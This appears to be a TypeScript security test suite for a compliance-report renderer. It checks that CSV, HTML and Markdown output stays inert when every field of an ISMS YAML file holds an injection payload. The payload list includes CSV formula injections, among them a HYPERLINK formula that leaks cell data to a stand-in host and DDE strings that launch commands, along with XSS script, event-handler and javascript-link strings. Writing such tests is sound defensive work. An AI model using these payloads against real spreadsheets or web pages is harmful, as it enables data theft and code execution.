/**
 * Reports are safe to open whatever the ISMS files say: in CSV no cell starts like a
 * spreadsheet formula (OWASP CSV injection) and every record keeps its width; in HTML every
 * value is escaped, there is no script, no event handler, no link but https, and the CSP
 * forbids everything else; in Markdown no value becomes HTML, a link or a table column.
 */
import * as assert from 'node:assert/strict';
import { renderReport, REPORT_KINDS } from '../../server/src/core/reports/renderReport';
import { checkCsv, checkHtml, checkMarkdown } from '../fuzz/invariants';
import { workspaceOf } from '../helpers/memoryHost';

/** Payloads placed in every free-text field a report shows. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1',
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", '</style><script>alert(1)</script>', '<!-- x', ']]><x>',
  '| a | b |', '[click](javascript:alert(1))', '![x](https://evil.example/t.png)', '# heading', '&lt;already&gt; &amp;', 'line one\nline two', '`code` **bold**',
];

function isms(payload: string): string {
  const q = JSON.stringify(payload);
  return [
    'organization:', `  name: ${q}`, '  approval:', '    approvedBy: jane', '    date: 2026-01-15', '    evidence: [EV-1]',
    'people:', '  - id: jane', `    name: ${q}`, '    roles: [top-management]', '  - id: bob', `    name: ${q}`, '    roles: [remediation-owner]',
    'scope:', `  statement: ${q}`, '  dataCategories: [customer-personal-data]', `  locations: [${q}]`, '  exclusions:', `    - item: ${q}`, `      justification: ${q}`,
    'soa:', '  controls:', '    - id: A.5.1', '      applicable: true', `      justification: ${q}`, '      status: implemented', '      owner: jane', '      evidence: [EV-1, EV-2, EV-3]',
    '    - id: A.7.4', '      applicable: false', `      justification: ${q}`,
    'risks:', '  - id: R-1', `    title: ${q}`, '    likelihood: 3', '    impact: 4', '    treatment: mitigate', '    controls: [A.5.1]', '    owner: jane',
    'evidence:',
    '  - id: EV-1', `    title: ${q}`, '    link: https://example.com/ok?x="><script>alert(1)</script>', '    collected: 2026-01-15',
    '  - id: EV-2', `    title: ${q}`, '    link: javascript:alert(1)', '    collected: 2026-01-15',
    '  - id: EV-3', `    title: ${q}`, '    link: "data:text/html,<script>alert(1)</script>"', '    collected: 2026-01-15',
    'audits:', '  - id: AU-1', '    type: stage-1', '    date: 2026-04-01', '    status: completed', `    auditor: ${q}`,
    'nonconformities:', '  - id: NC-1', '    audit: AU-1', '    severity: major', '    control: A.5.1', `    description: ${q}`, '    raised: 2026-04-02', '    due: 2026-05-02',
    '    status: open', `    actionPlan: ${q}`, '    owner: bob',
    'certificationBody:', `  name: ${q}`, `  accreditation: ${q}`,
    '',
  ].join('\n');
}

describe('security: reports are inert', () => {
  for (const payload of PAYLOADS) {
    describe(`with ${JSON.stringify(payload)} in every field`, () => {
      const ws = workspaceOf({ 'x.isms.yaml': isms(payload) }, { today: '2026-11-28' });

      for (const kind of REPORT_KINDS) {
        it(`${kind}.csv: no cell starts like a formula, every record as wide as the header`, () => {
          const csv = renderReport(ws, kind, 'csv', { generatedOn: '2026-11-28' });
          const rows = checkCsv(csv, `${kind}.csv`);
          assert.ok(rows.length > 1, 'the report has rows');
          const firstChar = payload.trimStart()[0]!;
          if (/[=+\-@]/.test(firstChar) && kind !== 'pre-assessment') {
            // The payload did reach the table, neutralised with a leading quote.
            assert.ok(rows.some((row) => row.some((cell) => cell.startsWith(`'${payload.trimStart().slice(0, 5)}`) || cell.includes(payload.slice(1, 6)))), 'payload not in the CSV');
          }
        });

        it(`${kind}.html: escaped, no script, no handler, only https links, CSP present`, () => {
          const html = renderReport(ws, kind, 'html', { generatedOn: '2026-11-28' });
          checkHtml(html, `${kind}.html`);
          for (const [, href] of html.matchAll(/href="([^"]*)"/g)) assert.match(href!, /^https:\/\//, `link ${href}`);
          // Payloads show as text (escaped), never as markup.
          assert.doesNotMatch(html, /<script|<img|<svg|<!-- x/i);
        });

        it(`${kind}.md: no raw HTML, no injected link or table column`, () => {
          const md = renderReport(ws, kind, 'md', { generatedOn: '2026-11-28' });
          checkMarkdown(md, `${kind}.md`);
          assert.doesNotMatch(md, /<script|<img|<svg|<\/style|<!--/i);
          // An unescaped `](` starts a link destination: only https ones.
          assert.doesNotMatch(md, /(?<!\\)\]\((?!https:\/\/)/, 'a Markdown link to something other than https');
        });
      }
    });
  }
});
